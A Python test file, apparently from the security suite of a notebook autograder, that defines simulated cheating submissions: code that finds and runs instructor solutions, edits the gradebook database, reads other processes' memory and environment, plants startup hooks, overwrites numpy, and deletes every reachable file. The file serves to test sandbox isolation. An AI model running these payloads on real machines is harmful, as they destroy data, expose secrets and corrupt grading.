"""Files: the answers, the gradebook, other students' work, and what others will run."""

from attacks.submission import cheat, honest

# Looks for the course from inside: above the current folder, in homes, in all of /tmp.
SEARCH = """
    import json
    import os
    from itertools import chain
    from pathlib import Path


    def search(pattern):
        here = Path.cwd().resolve()
        places = [*here.parents[:4], Path.home(), Path("/tmp"), Path("/work")]
        for place in places:
            try:
                yield from place.glob(pattern)
                yield from place.glob("*/" + pattern)
            except OSError:
                pass
"""

SUBMISSIONS = (
    cheat(
        "finds_the_source",
        "The instructor's notebook is found on the disk, and its solutions are run.",
        cells={
            "first": SEARCH
            + """
    for path in search("source/*/*.ipynb"):
        try:
            document = json.loads(path.read_text())
        except OSError:
            continue
        for cell in document["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                source = "".join(cell["source"])
                if cell["cell_type"] == "code":
                    exec(source, globals())
        break
            """,
            **dict.fromkeys(
                ("sum_of_squares", "normalize", "limit", "leaky", "is_prime", "noise"),
                "pass",
            ),
        },
    ),
    cheat(
        "finds_other_work",
        "Another student's notebook is found, and its answers are run.",
        cells={
            "first": SEARCH
            + """
    for path in chain(search("submitted/*/*/*.ipynb"), search("autograded/*/*/*.ipynb")):
        try:
            document = json.loads(path.read_text())
        except (OSError, ValueError):
            continue
        for cell in document["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "greet":
                try:
                    exec("".join(cell["source"]), globals())
                    if greet("Ada") == "Hello, Ada!":
                        break
                except Exception:
                    pass
            """,
            "greet": "pass",
        },
    ),
    cheat(
        "edits_the_gradebook",
        "The gradebook is found, and points are written into it.",
        cells={
            "first": SEARCH
            + """
    import sqlite3

    for path in search("gradebook.db"):
        print("found", path)
        with sqlite3.connect(path, timeout=1) as database:
            database.execute("UPDATE grade SET extra_credit = 50, manual_score = 3")
            database.execute("UPDATE source_cell SET source = 'pass'")
            """,
        },
    ),
    cheat(
        "reads_the_hidden_tests",
        "Each file and database that can be read is searched for hidden tests.",
        cells={
            "first": SEARCH
            + """
    for pattern in ("gradebook.db", "*/*/*/*.ipynb", "*/*.ipynb", "*.json", "canary*"):
        for path in search(pattern):
            try:
                text = path.read_bytes().decode(errors="replace")
            except OSError:
                continue
            for line in text.splitlines():
                if "hidden_marker =" in line or "c4n" in line:
                    print(path, line[-300:])
            """,
        },
        solved=True,
    ),
    cheat(
        "reads_canaries",
        "Files that any user of the machine may read are printed.",
        cells={
            "first": """
                from pathlib import Path

                for name in (
                    "/home/instructor/canary.txt",
                    "/tmp/outside/canary.txt",
                    "/proc/1/root/tmp/outside/canary.txt",
                    "/proc/self/root/home/instructor/canary.txt",
                    *(f"{'../' * n}canary.txt" for n in range(6)),
                ):
                    try:
                        print(name, Path(name).read_text())
                    except OSError as error:
                        print(name, error.strerror)
            """,
        },
        solved=True,
    ),
    cheat(
        "reads_processes",
        "Environment, command line, open files and memory of all processes are read.",
        cells={
            "first": """
                import os
                from pathlib import Path

                print({name: value for name, value in os.environ.items()})
                for process in Path("/proc").glob("[0-9]*"):
                    for part in ("environ", "cmdline", "maps", "root", "cwd"):
                        try:
                            if part in ("root", "cwd"):
                                print(process, os.listdir(process / part))
                            elif process.name != str(os.getpid()) or part == "environ":
                                text = (process / part).read_bytes()[:100_000]
                                print(process, text.replace(b"\\0", b" "))
                            if part == "maps" and process.name != str(os.getpid()):
                                with open(process / "mem", "rb") as memory:
                                    memory.seek(int(text.split(b"-")[0], 16))
                                    print("memory!", memory.read(16))
                        except OSError:
                            pass
            """,
        },
        solved=True,
    ),
    cheat(
        "reads_the_other_room",
        "Open files of the kernel itself are listed and followed.",
        cells={
            "first": """
                import os

                for number in range(3, 200):
                    try:
                        target = os.readlink(f"/proc/self/fd/{number}")
                    except OSError:
                        continue
                    try:
                        print(number, target, os.listdir(f"/proc/self/fd/{number}"))
                    except OSError:
                        print(number, target)
                    try:
                        folder = os.open("../../..", os.O_RDONLY, dir_fd=number)
                        print("beyond!", os.listdir(folder))
                        with open(f"/proc/self/fd/{folder}/canary.txt") as file:
                            print(file.read())
                    except OSError:
                        pass
            """,
        },
        solved=True,
    ),
    cheat(
        "overwrites_its_notebook",
        "Each notebook that can be written is replaced by one with good outputs.",
        cells={
            "last": SEARCH
            + """
    for path in chain(Path.cwd().glob("*.ipynb"), search("*ed/*/*/*.ipynb")):
        try:
            document = json.loads(path.read_text())
            for cell in document["cells"]:
                if cell["metadata"].get("nbgrader", {}).get("grade"):
                    cell["source"] = "pass"
                    cell["outputs"] = []
            path.write_text(json.dumps(document))
        except (OSError, ValueError):
            pass
            """,
        },
        dangerous=True,  # it spoils the other submissions of the course
    ),
    cheat(
        "neighbour_leaves_answers",
        "Right answers are left wherever a file can be written, for the next student.",
        cells={
            "first": """
                import os
                import tempfile
                from pathlib import Path

                for folder in (
                    *("/tmp", "/var/tmp", "/dev/shm", "/tmp/outside", "/run", "/"),
                    *(Path.home(), Path.cwd(), Path.cwd().parent, tempfile.gettempdir()),
                ):
                    try:
                        path = Path(folder, "left-behind.py")
                        path.write_text("greet = 'Hello, {}!'.format")
                        path.chmod(0o666)
                    except OSError:
                        pass
            """,
        },
    ),
    cheat(
        "neighbour_looks_for_answers",
        "The next student looks for what the one before has left.",
        cells={
            "greet": """
                import tempfile
                from pathlib import Path

                for folder in (
                    *("/tmp", "/var/tmp", "/dev/shm", "/tmp/outside", "/run", "/"),
                    *(Path.home(), Path.cwd(), Path.cwd().parent, tempfile.gettempdir()),
                    "../../neighbour_leaves_answers/attacks",
                ):
                    try:
                        exec(Path(folder, "left-behind.py").read_text())
                    except OSError:
                        pass
            """,
        },
    ),
    cheat(
        "plants_startup_code",
        "Code is left where Python, IPython, Jupyter and pytest run it at their start.",
        cells={
            "first": """
                import site
                import sys
                from pathlib import Path

                code = "import builtins; builtins.abs = lambda x: 0"
                for folder in (
                    *site.getsitepackages(),
                    site.getusersitepackages(),
                    *sys.path,
                    Path.cwd(),
                    Path.home(),
                    Path.home() / ".ipython/profile_default/startup",
                    Path.home() / ".jupyter",
                    "/etc/ipython",
                    "/usr/local/etc/jupyter",
                ):
                    for name in (
                        *("sitecustomize.py", "usercustomize.py", "planted.pth"),
                        *("conftest.py", "00-start.py", "ipython_config.py"),
                        "nbgrader_config.py",
                    ):
                        try:
                            Path(folder).mkdir(parents=True, exist_ok=True)
                            Path(folder, name).write_text(code)
                        except OSError:
                            pass
            """,
        },
        dangerous=True,
    ),
    cheat(
        "overwrites_numpy",
        "numpy.testing is overwritten on the disk, and the compiled files with it.",
        cells={
            "first": """
                from pathlib import Path

                package = Path(np.testing.__file__).parent
                for path in package.rglob("*.py*"):
                    try:
                        path.write_text("assert_allclose = lambda *a, **k: None")
                    except OSError:
                        pass
            """,
            "noise": "def noise(n): return np.zeros(n)",
        },
        dangerous=True,
    ),
    cheat(
        "deletes_everything",
        "Whatever can be deleted above and around the current folder is deleted.",
        cells={
            "last": """
                import shutil
                from pathlib import Path

                here = Path.cwd().resolve()
                for folder in (here, *here.parents[:-1], Path.home(), "/tmp", "/dev/shm"):
                    for path in [*Path(folder).iterdir()] if Path(folder).exists() else []:
                        shutil.rmtree(path, ignore_errors=True)
                        try:
                            path.unlink()
                        except OSError:
                            pass
            """,
        },
        solved=True,
        dangerous=True,
    ),
    cheat(
        "appends_to_canaries",
        "Files that any user of the machine may write are changed.",
        cells={
            "first": """
                import os

                for name in ("/home/instructor/canary.txt", "/tmp/outside/canary.txt"):
                    for act in (
                        lambda: open(name, "a").write("!"),
                        lambda: os.chmod(name, 0),
                        lambda: os.utime(name, (0, 0)),
                        lambda: os.rename(name, name + "2"),
                        lambda: os.truncate(name, 0),
                        lambda: os.link(name, "link"),
                        lambda: os.symlink("/etc/passwd", name + "3"),
                        lambda: os.mkfifo("/tmp/outside/fifo"),
                    ):
                        try:
                            act()
                        except OSError:
                            pass
            """,
        },
        solved=True,
    ),
    cheat(
        "notebook_is_a_symlink",
        "What was handed in is a link to the instructor's notebook.",
        files={"tasks.ipynb": "-> ../../../source/attacks/tasks.ipynb"},
        refused=True,
    ),
    cheat(
        "data_is_a_symlink",
        "Links beside the notebook lead to the solutions and to secrets.",
        cells={
            "first": """
                import json

                for name in ("canary.txt", "home.txt", "source.ipynb", "db", "loop"):
                    try:
                        with open(name, errors="replace") as file:
                            text = file.read()
                    except OSError as error:
                        print(name, error.strerror)
                        continue
                    print(name, text if "canary" in text else len(text))
                    if name == "source.ipynb":
                        for cell in json.loads(text)["cells"]:
                            if cell["metadata"].get("nbgrader", {}).get("solution"):
                                exec("".join(cell["source"]), globals())
            """,
            "greet": "pass",
            "normalize": "pass",
        },
        files={
            "source.ipynb": "-> ../../../source/attacks/tasks.ipynb",
            "canary.txt": "-> ../../../canary.txt",
            "home.txt": "-> /home/instructor/canary.txt",
            "db": "-> ../../../gradebook.db",
            "loop": "-> .",
        },
    ),
    cheat(
        "shadows_numpy",
        "A file numpy.py beside the notebook is what the test imports.",
        cells={},
        files={
            "numpy.py": "raise SystemExit",
            "torch.py": "allclose = equal = lambda *a: True",
            "pytest.py": "raise SystemExit",
            "autograder.py": "raise SystemExit",
            "nbgrader.py": "raise SystemExit",
        },
    ),
    honest(
        "shadows_by_accident",
        "Files of an honest student happen to have the names of modules.",
        files={
            "random.py": "print('my random numbers')",
            "course.py": "raise RuntimeError('my notes')",
            "test.py": "assert False",
            "sitecustomize.py": "raise RuntimeError",
            "ipython_config.py": "raise RuntimeError",
            "nbgrader_config.py": "raise RuntimeError",
            "jupyter_config.json": "{",
        },
    ),
    cheat(
        "configures_ipython",
        "Configuration of IPython and nbgrader lies beside the notebook.",
        files={
            "ipython_config.py": """
c = get_config()
c.InteractiveShellApp.exec_lines = ["import builtins", "builtins.exec = print"]
c.InteractiveShell.ast_node_interactivity = "none"
""",
            "nbgrader_config.py": """
c = get_config()
c.Autograde.autograde_preprocessors = []
c.Execute.allow_errors = True
""",
        },
    ),
)
